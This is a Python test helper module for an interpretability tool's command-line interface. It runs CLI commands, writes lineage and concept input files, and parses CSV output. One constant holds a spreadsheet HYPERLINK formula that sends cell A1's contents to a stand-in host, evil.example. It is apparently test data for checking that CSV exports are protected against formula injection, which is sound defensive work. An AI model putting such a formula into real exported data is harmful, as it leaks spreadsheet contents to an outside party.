"""What the command-line tests share: running a command, the paths they read, inputs they write."""

import json
from pathlib import Path

from interp.cli.main import main

REPO = Path(__file__).resolve().parents[2]


PAPER = REPO.parent / "shared" / "reference" / "paper-shares"


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def write_inputs(tmp_path, tiny_lineage, sequences):
    """A lineage file and a concept file for `extract`, from the tiny lineage and sequences."""
    lineage_file = tmp_path / "lineage.yaml"
    lineage_file.write_text("name: tiny\nreference: base\nstages:\n" + "".join(
        f"  - {{label: {s.label}, model: '{s.model}'}}\n" for s in tiny_lineage.stages))
    concepts = tmp_path / "c.json"
    concepts.write_text(json.dumps({"set": "t", "sequences": [
        {"id": s.id, "concept": s.concept, "text": s.text, "spans": [{"text": sp.text} for sp in s.spans]}
        for s in sequences]}))
    return str(lineage_file), str(concepts)


def csv_rows(text):
    """The rows of a CSV the project wrote, below its block of `# key: value` settings."""
    import csv
    import io

    return list(csv.DictReader(io.StringIO("".join(line for line in text.splitlines(True) if not line.startswith("#")))))
